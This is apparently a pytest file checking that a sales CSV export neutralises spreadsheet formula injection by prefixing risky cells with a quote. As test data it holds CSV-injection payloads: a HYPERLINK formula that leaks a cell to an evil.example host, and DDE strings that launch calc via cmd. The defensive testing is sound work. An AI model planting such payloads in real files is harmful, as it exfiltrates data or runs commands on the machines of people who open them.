"""`sales --csv`: what a spreadsheet opens is data, never a formula (OWASP's CSV injection)."""

import csv
import io

import pytest

from handlers.customers import refresh_customers
from handlers.funnel import normalise_email
from handlers.purchases import store_purchases
from handlers.sales_import import read_sales_csv
from handlers.sales_view import load_sales_view
from tests.sales_scenarios import funnel_purchase
from tests.unit.test_sales_view import deliver_funnel
from worker.ops.exports import write_sales_csv

# Accepted by the email normaliser as it stands: one @, no spaces, a dotted domain.
HOSTILE_EMAIL = '=HYPERLINK("http://x/?"&C3,"x")@evil.example'
# What a spreadsheet would run: every character OWASP (and ASVS 1.2.10) says may start a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")


def exported(db, tmp_path) -> list[dict[str, str]]:
    """The sales view written the way `sales --csv` writes it, read back as a spreadsheet reads it."""
    with db.session() as session:
        documents = [row.as_json() for row in load_sales_view(session)]
    path = tmp_path / "sales.csv"
    assert write_sales_csv(path, documents) == len(documents)
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def import_sales(db, text: str) -> None:
    """`import-sales` on a file with this text: parsed, stored, customers refreshed."""
    result = read_sales_csv(io.StringIO(text), default_currency="USD")
    assert result.rows and not result.errors, result.errors
    with db.session() as session:
        store_purchases(session, result.rows)
        refresh_customers(session, {row["customer_email"] for row in result.rows})


def test_the_hostile_email_is_one_the_email_normaliser_accepts():
    assert normalise_email(HOSTILE_EMAIL) is not None


def test_a_formula_from_the_funnel_webhook_is_written_as_text(db, tmp_path):
    payload = funnel_purchase(email=HOSTILE_EMAIL, name="@SUM(1+9)*cmd|' /C calc'!A0")
    assert deliver_funnel(db, payload) == "done"
    [row] = exported(db, tmp_path)
    stored = normalise_email(HOSTILE_EMAIL)
    assert row["customer_email"] == "'" + stored
    assert row["product"] == "'@SUM(1+9)*cmd|' /C calc'!A0"


def test_a_formula_from_an_imported_sales_export_is_written_as_text(db, tmp_path):
    import_sales(
        db,
        "Order ID,Email,Product,Price,Currency,Date\n"
        f'9001,"{HOSTILE_EMAIL.replace(chr(34), chr(34) * 2)}",+1+cmd|calc,$10.00,USD,2026-11-01\n'
        "9002,ok@example.com,-2+3,$20.00,USD,2026-11-02\n",
    )
    rows = exported(db, tmp_path)
    by_email = {row["customer_email"]: row for row in rows}
    hostile = by_email["'" + normalise_email(HOSTILE_EMAIL)]
    assert hostile["product"] == "'+1+cmd|calc"
    assert by_email["ok@example.com"]["product"] == "'-2+3"
    # Numbers stay numbers: 10.00 USD is 1000 minor units, unquoted, unprefixed.
    assert sorted(row["amount"] for row in rows) == ["1000", "2000"]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_character_is_escaped_with_a_single_quote(tmp_path, trigger):
    path = tmp_path / "sales.csv"
    write_sales_csv(path, [{"charge_id": "ch_1", "product": trigger + "1+1", "amount": 100}])
    with path.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["product"] == "'" + trigger + "1+1"


def test_numbers_are_never_escaped_and_stay_numbers_even_when_negative(tmp_path):
    path = tmp_path / "sales.csv"
    document = {
        "charge_id": "ch_1",
        "amount": -500,
        "refunded_amount": 0,
        "installment": None,
        "product": "Plain course",
        "ratio": -0.5,
    }
    write_sales_csv(path, [document])
    raw = path.read_text(encoding="utf-8").splitlines()
    # Unquoted in the file, so every spreadsheet reads them as numbers; text cells are quoted.
    assert raw[1] == '"ch_1",-500,0,"","Plain course",-0.5'
    with path.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert (row["amount"], row["refunded_amount"], row["ratio"]) == ("-500", "0", "-0.5")


def test_a_separator_cannot_start_a_new_cell_that_holds_a_formula(tmp_path):
    # A spreadsheet set to split on ";" would start a cell at "=1+1" if the text were not quoted.
    path = tmp_path / "sales.csv"
    write_sales_csv(path, [{"charge_id": "ch_1", "product": "Course;=1+1", "amount": 100}])
    assert path.read_text(encoding="utf-8").splitlines()[1] == '"ch_1","Course;=1+1",100'


def test_an_empty_view_still_writes_a_header(tmp_path):
    path = tmp_path / "sales.csv"
    assert write_sales_csv(path, []) == 0
    with path.open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle)) == [["charge_id"]]
